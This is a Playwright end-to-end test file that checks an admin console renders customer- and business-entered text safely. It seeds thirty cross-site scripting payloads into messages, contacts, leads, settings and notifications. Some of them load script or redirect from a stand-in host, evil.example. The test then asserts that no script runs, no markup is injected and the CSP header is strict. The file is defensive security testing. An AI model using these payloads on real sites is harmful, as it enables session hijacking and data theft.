import type { Server } from 'node:http';
import type { Page } from 'playwright-core';
import { OrgFactory } from '../../src/orgs/org-factory.service.js';
import { SettingsService } from '../../src/orgs/settings.service.js';
import { Database } from '../../src/platform/database/database.service.js';
import { ServiceCatalog } from '../../src/appointments/service-catalog.service.js';
import { PASSWORD } from '../harness/kernel.js';
import { TestOrg } from '../harness/test-org.js';
import { World } from '../harness/world.js';
import { ConsoleBrowser, DEADLINE_MS } from './console-browser.js';
import { fillWithMarkup, hostileSite } from './hostile-material.js';
import { DESK } from './looks.js';

/** Each would call alert(), set window.pwned or leave the host, if anything of it were ever taken for markup or script. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg onload=alert(3)>',
  '<svg/onload=alert(4)//',
  '"><script>alert(5)</script>',
  "'><img src=x onerror=alert(6)>",
  '<iframe srcdoc="<script>parent.alert(7)</script>">',
  '<iframe src="javascript:alert(8)">',
  '<a href="javascript:alert(9)">x</a>',
  'javascript:alert(10)',
  'data:text/html,<script>alert(11)</script>',
  '<details open ontoggle=alert(12)>',
  '<video><source onerror=alert(13)>',
  '<body onload=alert(14)>',
  '<input autofocus onfocus=alert(15)>',
  '<math><mtext><img src=x onerror=alert(16)></mtext></math>',
  '<style>@import "http://evil.example/x";</style>',
  '<link rel=stylesheet href=http://evil.example/x>',
  '<meta http-equiv=refresh content="0;url=http://evil.example">',
  '<base href=http://evil.example/>',
  '<form action=http://evil.example><button>x</button></form>',
  '<object data="javascript:alert(17)">',
  '<embed src="javascript:alert(18)">',
  '${alert(19)}',
  '{{constructor.constructor("alert(20)")()}}',
  '<img src="x` `<script>alert(21)</script>"` `>',
  '<noscript><p title="</noscript><img src=x onerror=alert(22)>">',
  '<template><script>alert(23)</script></template>',
  '\u003cscript\u003ealert(24)\u003c/script\u003e',
  '<script src=http://evil.example/x.js></script>',
];

/** 3.7: words of customers and of the business, shown in a real browser. */
describe('markup in what people write', () => {
  let world: World;
  let org: TestOrg;
  let browser: ConsoleBrowser;
  const dialogs: string[] = [];
  const watch = (opened: Page): void =>
    void opened.on('dialog', (dialog) => {
      dialogs.push(`${opened.url()}: ${dialog.message()}`);
      void dialog.dismiss();
    });
  let page: Page;
  let site: Server;
  let taken: Record<string, number>;
  const boss = { email: 'boss@agency.test', password: PASSWORD };

  beforeAll(async () => {
    const { server, host } = await hostileSite(PAYLOADS);
    site = server;
    world = await World.start({ env: { SCAN_PRIVATE_HOSTS: host } });
    org = await world.org({ name: 'Northside', settings: { debounceMs: 0 } });
    const { agencyId } = world;
    await world.app.get(OrgFactory).addUser({ ...boss, name: `Ann ${PAYLOADS[1]}`, agencyId, role: 'agency_owner' });
    const agency = new TestOrg(world, { orgId: org.orgId, accountId: '', number: '', ...boss });
    await agency.signIn();
    taken = await fillWithMarkup({ org, boss: agency, host }, PAYLOADS);
    const customer = world.phone('+13122600101', org);
    await customer.calls('no-answer');
    await customer.receives(1, DEADLINE_MS);
    await world.settled(DEADLINE_MS);
    const [thread] = await world.sql<{ id: string; contact: string; lead: string; account: string }>(
      'SELECT id, contact_id AS contact, lead_id AS lead, channel_account_id AS account FROM conversations WHERE org_id = $1 LIMIT 1',
      [org.orgId],
    );
    await world.app.get(Database).withOrg(org.orgId, async () => {
      const settings = world.app.get(SettingsService);
      const { version } = (await settings.get()).settings;
      await settings.update(
        { ownerName: PAYLOADS[4], greeting: PAYLOADS[0], customInstructions: PAYLOADS.join('\n').slice(0, 1500) },
        version,
      );
      await world.app.get(ServiceCatalog).create({ name: PAYLOADS[2]!, keywords: [PAYLOADS[5]!], durationMinutes: 60 });
    });
    await world.sql('UPDATE orgs SET name = $2 WHERE id = $1', [org.orgId, `Northside ${PAYLOADS[1]}`]);
    // written as the webhook would store them, all at once
    for (const [index, payload] of PAYLOADS.entries()) {
      await world.sql(
        `WITH next AS (UPDATE conversations SET last_seq = last_seq + 1, last_preview = $4, unread_count = unread_count + 1 WHERE id = $2 RETURNING last_seq)
         INSERT INTO messages (id, org_id, conversation_id, channel_account_id, seq, direction, sender, body) SELECT gen_random_uuid(), $1, $2, $3, last_seq, 'in', 'customer', $4 FROM next`,
        [org.orgId, thread!.id, thread!.account, payload],
      );
      await world.sql(`INSERT INTO contacts (id, org_id, name, email, address, notes) VALUES (gen_random_uuid(), $1, $2, $2, $2, $2)`, [
        org.orgId,
        payload,
      ]);
      await world.sql(
        `WITH c AS (INSERT INTO contacts (id, org_id, name) VALUES (gen_random_uuid(), $1, $2) RETURNING id)
         INSERT INTO leads (id, org_id, contact_id, notes, status) SELECT gen_random_uuid(), $1, id, $2, 'qualifying' FROM c`,
        [org.orgId, payload],
      );
      await world.sql(
        `INSERT INTO notifications (id, org_id, event, title, body, group_key, link) VALUES (gen_random_uuid(), $1, 'call.missed', $2, $2, $3, $4)`,
        [org.orgId, payload, `xss-${index}`, payload.startsWith('javascript:') || payload.startsWith('data:') ? payload : null],
      );
      await world.sql(
        `INSERT INTO escalations (id, org_id, conversation_id, lead_id, contact_id, kind, priority, reason, summary, dedupe_key)
         VALUES (gen_random_uuid(), $1, $2, $3, $4, 'human_needed', 'high', 'test', $5, $6)`,
        [org.orgId, thread!.id, thread!.lead, thread!.contact, payload, `xss-${index}`],
      );
    }
    await world.sql('UPDATE contacts SET name = $2, address = $3 WHERE id = $1', [thread!.contact, PAYLOADS[0], PAYLOADS[1]]);
    await world.sql('UPDATE calls SET transcription = $2 WHERE org_id = $1', [org.orgId, PAYLOADS[2]]);
    browser = await ConsoleBrowser.launch(world);
    const context = await browser.context(DESK);
    context.on('page', watch);
    page = await browser.signIn(context, org);
  });
  afterAll(async () => {
    await browser?.close();
    await world?.stop();
    site?.close();
  });

  const root = (): string => page.url().match(/^.*\/admin\/t\/[^/]+/)![0];
  /** Opens a page; `there` waits for what it must show. */
  const visit = async (path: string, there?: () => Promise<void>): Promise<void> => {
    await page.goto(`${root()}${path}`);
    await page.locator('main').waitFor();
    await page.locator('[role="status"][aria-label="Loading"]').first().waitFor({ state: 'detached' });
    await page.waitForLoadState('load');
    await there?.();
    // what should not happen gets the time to happen
    await page.waitForTimeout(700);
  };
  const noticed = async (): Promise<string[]> => {
    // elements that the console did not make: text that became markup
    const made = await page.evaluate<string[]>(
      `[...document.querySelectorAll('main iframe, main object, main embed, main script, main base, main form[action^="http"], [onerror], [onload], [ontoggle], [onfocus]')].map((element) => element.outerHTML.slice(0, 120))`,
    );
    const links = await page.evaluate<string[]>(
      `[...document.querySelectorAll('a[href]')].map((link) => link.protocol).filter((protocol) => !['http:', 'https:', 'tel:', 'mailto:'].includes(protocol))`,
    );
    const opened = await page.evaluate<string[]>(
      `[...document.querySelectorAll('a[target="_blank"]')].filter((link) => !(link.getAttribute('rel') ?? '').includes('noopener')).map((link) => link.outerHTML.slice(0, 120))`,
    );
    const complaints = browser.complaints.filter((line) => /left the host|exception|Content Security Policy/.test(line));
    return [...dialogs, ...made, ...links, ...opened, ...complaints];
  };

  it.each([
    '',
    '/inbox',
    '/actions',
    '/calls',
    '/leads',
    '/appointments?view=list',
    '/notifications',
    '/settings/business',
    '/settings/services',
    '/settings/assistant',
    '/simulator',
    '/knowledge',
    '/profile',
    '/onboarding',
    '/onboarding/business-details',
    '/onboarding/offer',
    '/onboarding/agent-details',
    '/onboarding/sales-process',
    '/onboarding/testimonials',
    '/people',
    '/people/roles',
    '/settings/api-keys',
    '/audit',
  ])('page %j shows it as text', async (path) => {
    await visit(path);
    expect(await noticed()).toEqual([]);
  });

  it('it stands in everything that a business names, and was not just refused', () => {
    const refused = Object.entries(taken).filter(([, count]) => count === 0);
    expect(refused).toEqual([]);
  });

  it.each([
    ['/knowledge', 'alert('],
    ['/people', 'onload=alert(3)'],
    ['/profile', 'onload=alert(3)'],
  ])('page %j really shows it: %s', async (path, words) => {
    await visit(path, () => page.locator('main').getByText(words).first().waitFor());
    expect(await noticed()).toEqual([]);
  });

  it.each(['/agency', '/agency/usage', '/audit'])('page %j of the agency shows it as text', async (path) => {
    const context = await browser.context(DESK);
    context.on('page', watch);
    const own = page;
    try {
      page = await browser.signIn(context, boss);
      await visit(path, path === '/agency' ? () => page.locator('main').getByText('alert(').first().waitFor() : undefined);
      expect(await noticed()).toEqual([]);
    } finally {
      page = own;
      await context.close();
    }
  });

  it('the thread shows every one of the thirty as the text it is', async () => {
    const [thread] = await world.sql<{ id: string }>('SELECT id FROM conversations WHERE org_id = $1 LIMIT 1', [org.orgId]);
    const missing = async (): Promise<string[]> => {
      const shown = await page.locator('main').innerText();
      return PAYLOADS.filter((payload) => !shown.replaceAll(/\s+/g, ' ').includes(payload.replaceAll(/\s+/g, ' ').trim()));
    };
    await visit(`/inbox/${thread!.id}`, () => expect.poll(missing, { timeout: DEADLINE_MS }).toEqual([]));
    expect(await missing()).toEqual([]);
    expect(await noticed()).toEqual([]);
  });

  it('leads show them too', async () => {
    await visit('/leads', () => page.locator('main').getByText('alert(').first().waitFor());
    expect(await page.locator('main').innerText()).toContain('alert(');
    const [lead] = await world.sql<{ id: string }>('SELECT id FROM leads WHERE org_id = $1 ORDER BY created_at DESC LIMIT 1', [org.orgId]);
    await visit(`/leads/${lead!.id}`);
    expect(await noticed()).toEqual([]);
  });

  it('the policy of the page forbids what would slip through', async () => {
    const answer = await page.request.get(`${world.baseUrl}/admin/`);
    const policy = answer.headers()['content-security-policy'] ?? '';
    expect(policy).toMatch(/script-src 'self'(;|$)/);
    expect(policy).toMatch(/object-src 'none'/);
    expect(policy).toMatch(/base-uri 'self'/);
    expect(policy).toMatch(/frame-ancestors 'none'/);
    const blocked = await page.evaluate<boolean>(
      `(() => { const script = document.createElement('script'); script.textContent = 'window.pwned = true'; document.body.append(script); return window.pwned === undefined; })()`,
    );
    expect(blocked).toBe(true);
  });
});
